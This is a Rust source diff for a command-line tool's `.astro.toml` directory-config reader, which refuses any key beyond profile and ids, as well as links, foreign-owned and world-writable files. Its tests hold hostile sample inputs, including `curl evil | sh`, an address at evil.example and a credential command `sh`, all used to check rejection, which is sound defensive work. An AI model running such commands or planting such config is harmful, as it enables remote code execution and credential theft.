@@ -1,0 +1,262 @@
+//! `.astro.toml`: what a directory selects. It may name a profile and ids and nothing else: a repository that
+//! somebody cloned must not be able to send a credential elsewhere or start a program.
+
+use std::{
+    fs::File,
+    io::Read,
+    os::unix::fs::{MetadataExt, OpenOptionsExt},
+    path::{Path, PathBuf},
+};
+
+use astro_plugin_protocol::names;
+
+use super::{Origin, Sourced};
+use crate::{
+    error::{Failure, Result, config},
+    files,
+};
+
+/// The file's name.
+pub const FILE: &str = ".astro.toml";
+/// What a selection never needs more than, in bytes.
+const LARGEST: u64 = 64 * 1024;
+
+/// What the nearest directory file selects; each value remembers its line.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct Directory {
+    /// The file.
+    pub path: PathBuf,
+    /// `profile`
+    pub profile: Option<Sourced<String>>,
+    /// `organization`: ID or name.
+    pub organization: Option<Sourced<String>>,
+    /// `workspace`: ID or name.
+    pub workspace: Option<Sourced<String>>,
+    /// `deployment`: ID or name.
+    pub deployment: Option<Sourced<String>>,
+}
+
+impl Directory {
+    /// The nearest file, from `start` upwards. The walk ends after a directory of `homes`, at the border of a file
+    /// system, and before a directory that belongs to somebody else than `start`'s reader.
+    pub fn nearest(start: &Path, homes: &[PathBuf]) -> Result<Option<Self>> {
+        let user = rustix::process::geteuid().as_raw();
+        let mut device = None;
+        for dir in start.ancestors() {
+            let Ok(metadata) = dir.metadata() else { return Ok(None) };
+            if metadata.uid() != user || *device.get_or_insert(metadata.dev()) != metadata.dev() {
+                return Ok(None);
+            }
+            let path = dir.join(FILE);
+            if path.symlink_metadata().is_ok() {
+                return read(&path, user).and_then(|text| Self::parse(&path, &text)).map(Some);
+            }
+            if homes.iter().any(|home| home == dir) {
+                return Ok(None);
+            }
+        }
+        Ok(None)
+    }
+
+    /// The nearest file for this process.
+    pub fn of_process() -> Result<Option<Self>> {
+        // A directory that was removed selects nothing.
+        let Ok(start) = working() else { return Ok(None) };
+        let homes = ["HOME", "ASTRO_HOME"].into_iter().filter_map(std::env::var_os);
+        let homes: Vec<PathBuf> = homes.filter_map(|home| Path::new(&home).canonicalize().ok()).collect();
+        Self::nearest(&start, &homes)
+    }
+
+    /// Reads the text of a file.
+    pub fn parse(path: &Path, text: &str) -> Result<Self> {
+        let line =
+            |at: usize| text.as_bytes()[..at.min(text.len())].iter().filter(|b| **b == b'\n').count() + 1;
+        let document = toml_edit::Document::parse(text).map_err(|error| {
+            let at = error.span().map_or(0, |span| span.start);
+            refused(path, Some(line(at)), error.message())
+        })?;
+        let mut found = Self { path: path.to_owned(), ..Self::default() };
+        for (key, item) in document.as_table().iter() {
+            let at = document.as_table().key(key).and_then(toml_edit::Key::span).or_else(|| item.span());
+            let line = line(at.map_or(0, |span| span.start));
+            let slot = match key {
+                "profile" => &mut found.profile,
+                "organization" => &mut found.organization,
+                "workspace" => &mut found.workspace,
+                "deployment" => &mut found.deployment,
+                other => {
+                    let reason = format!(
+                        "`{other}` may not be set here: a directory selects a profile, an organization, a workspace and a deployment, and nothing else"
+                    );
+                    return Err(refused(path, Some(line), &reason));
+                }
+            };
+            let value = item.as_str().filter(|value| !value.trim().is_empty());
+            let Some(value) = value else {
+                return Err(refused(path, Some(line), &format!("`{key}` is not a text")));
+            };
+            if key == "profile" && !names::is_name(value) {
+                return Err(refused(path, Some(line), &format!("`{value}` is not a name for a profile")));
+            }
+            let origin = Origin::Directory { path: path.to_owned(), line };
+            *slot = Some(Sourced::new(value.to_owned(), origin));
+        }
+        Ok(found)
+    }
+}
+
+/// The working directory.
+#[expect(clippy::disallowed_methods, reason = "a directory file is found from here, and selects names only")]
+pub fn working() -> std::io::Result<PathBuf> {
+    std::env::current_dir()
+}
+
+/// The text, read from one descriptor that was looked at.
+fn read(path: &Path, user: u32) -> Result<String> {
+    let failed = |error: std::io::Error| refused(path, None, &error.to_string());
+    let flags = libc::O_NOFOLLOW | libc::O_NONBLOCK | libc::O_CLOEXEC;
+    let file = match File::options().read(true).custom_flags(flags).open(path) {
+        Ok(file) => file,
+        Err(error) if error.raw_os_error() == Some(libc::ELOOP) => {
+            return Err(refused(path, None, "it is a link"));
+        }
+        Err(error) => return Err(failed(error)),
+    };
+    let metadata = file.metadata().map_err(failed)?;
+    let reason = if !metadata.is_file() {
+        Some("it is not a regular file")
+    } else if metadata.uid() != user {
+        Some("it belongs to somebody else")
+    } else if metadata.mode() & 0o002 != 0 {
+        Some("everybody may write to it")
+    } else if metadata.len() > LARGEST {
+        Some("it is larger than 64 KiB")
+    } else {
+        None
+    };
+    if let Some(reason) = reason {
+        return Err(refused(path, None, reason));
+    }
+    let mut bytes = Vec::new();
+    file.take(LARGEST).read_to_end(&mut bytes).map_err(failed)?;
+    String::from_utf8(bytes).map_err(|_| refused(path, None, "it is not UTF-8 text"))
+}
+
+fn refused(path: &Path, line: Option<usize>, reason: &str) -> Failure {
+    let place = line.map(|line| format!(" line {line}")).unwrap_or_default();
+    config(format!("`{}`{place} is not accepted", path.display()))
+        .cause(reason)
+        .help("correct it, or remove the file; nothing was sent")
+}
+
+/// Makes or changes the file of a directory: `key` gets `value`, the rest stays as it is.
+pub fn set(dir: &Path, values: &[(&str, Option<&str>)]) -> Result<PathBuf> {
+    let path = dir.join(FILE);
+    let before = match path.symlink_metadata() {
+        Ok(_) => read(&path, rustix::process::geteuid().as_raw())?,
+        Err(_) => String::new(),
+    };
+    Directory::parse(&path, &before)?;
+    let mut document: toml_edit::DocumentMut =
+        before.parse().map_err(|error: toml_edit::TomlError| refused(&path, None, error.message()))?;
+    for (key, value) in values {
+        crate::config::set(document.as_table_mut(), key, *value);
+    }
+    // It is for colleagues, too: its mode is that of the other files of the project.
+    files::write_shared(&path, document.to_string().as_bytes())?;
+    Ok(path)
+}
+
+#[cfg(test)]
+mod tests {
+    use std::fs;
+
+    use super::*;
+
+    fn put(path: impl AsRef<Path>, content: impl AsRef<[u8]>) -> Result<()> {
+        files::write_shared(path.as_ref(), content.as_ref())
+    }
+
+    fn tree() -> (tempfile::TempDir, PathBuf) {
+        let root = tempfile::tempdir().expect("a directory");
+        let home = root.path().canonicalize().expect("there").join("home");
+        fs::create_dir_all(home.join("project/deep")).expect("made");
+        (root, home)
+    }
+
+    #[test]
+    fn the_nearest_file_counts_and_the_walk_ends_at_the_home() {
+        let (_root, home) = tree();
+        let deep = home.join("project/deep");
+        let homes = [home.clone()];
+        assert_eq!(Directory::nearest(&deep, &homes).expect("read"), None);
+        put(home.parent().expect("the root").join(FILE), "profile = \"outside\"").expect("written");
+        assert_eq!(Directory::nearest(&deep, &homes).expect("read"), None);
+        put(home.join(FILE), "profile = \"home\"").expect("written");
+        put(home.join("project").join(FILE), "# ours\n\nworkspace = \"w\"").expect("written");
+        let found = Directory::nearest(&deep, &homes).expect("read").expect("there");
+        let workspace = found.workspace.expect("set");
+        assert_eq!((workspace.value.as_str(), found.profile), ("w", None));
+        assert!(workspace.origin.to_string().ends_with("project/.astro.toml line 3"), "{}", workspace.origin);
+        let found = Directory::nearest(&home, &homes).expect("read").expect("there");
+        assert_eq!(found.profile.expect("set").value, "home");
+    }
+
+    /// What a repository may try: each is refused with the path and a reason, and the line where there is one.
+    #[test]
+    fn a_hostile_file_is_refused() {
+        for (text, line, reason) in [
+            ("profile = \"a\"\naddress = \"https://evil.example/v1\"", " line 2", "`address` may not"),
+            ("api_url = \"x\"", " line 1", "`api_url` may not"),
+            ("[credentials.a]\nsource = \"command\"\ncommand = \"sh\"", " line 1", "`credentials` may not"),
+            ("\n[profiles.a]\nca_file = \"x\"", " line 2", "`profiles` may not"),
+            ("command = \"curl evil | sh\"", " line 1", "`command` may not"),
+            ("official.command = \"x\"", " line 1", "`official` may not"),
+            ("output = \"json\"", " line 1", "`output` may not"),
+            ("profile = 7", " line 1", "not a text"),
+            ("profile = \"\"", " line 1", "not a text"),
+            ("profile = \"../../x\"", " line 1", "not a name"),
+            ("profile = \"a\x1b[2J\"", " line 1", ""),
+            ("profile = \"a\"\nprofile = \"b\"", " line 2", ""),
+            ("profile", " line 1", ""),
+            ("\x7fELF\x02\x01\x01\0\0\0", " line 1", ""),
+        ] {
+            let error = Directory::parse(Path::new("/p/.astro.toml"), text).expect_err(text);
+            assert!(error.message.contains(&format!("`/p/.astro.toml`{line}")), "{text}: {error:?}");
+            assert!(error.causes.iter().any(|cause| cause.contains(reason)), "{text}: {error:?}");
+        }
+    }
+
+    #[test]
+    fn what_is_no_file_of_ones_own_is_refused() {
+        let (_root, home) = tree();
+        let path = home.join(FILE);
+        let refused = |reason: &str| {
+            let error = Directory::nearest(&home, std::slice::from_ref(&home)).expect_err(reason);
+            assert!(error.causes.iter().any(|cause| cause.contains(reason)), "{error:?}");
+            fs::remove_file(&path).or_else(|_| fs::remove_dir(&path)).expect("removed");
+        };
+        std::os::unix::fs::symlink("/dev/zero", &path).expect("linked");
+        refused("a link");
+        rustix::fs::mkfifoat(rustix::fs::CWD, &path, rustix::fs::Mode::RWXU).expect("made");
+        refused("not a regular file");
+        fs::create_dir(&path).expect("made");
+        refused("not a regular file");
+        put(&path, vec![b'#'; 65 * 1024]).expect("written");
+        refused("larger");
+        put(&path, b"profile = \"\xff\"").expect("written");
+        refused("UTF-8");
+        put(&path, b"").expect("written");
+        fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o666)).expect("set");
+        refused("everybody");
+    }
+
+    #[test]
+    fn a_change_keeps_what_is_there() {
+        let (_root, home) = tree();
+        put(home.join(FILE), "# ours\nworkspace = \"w\" # why\n").expect("written");
+        set(&home, &[("profile", Some("a")), ("deployment", None)]).expect("changed");
+        let text = fs::read_to_string(home.join(FILE)).expect("there");
+        assert_eq!(text, "# ours\nworkspace = \"w\" # why\nprofile = \"a\"\n");
+    }
+}
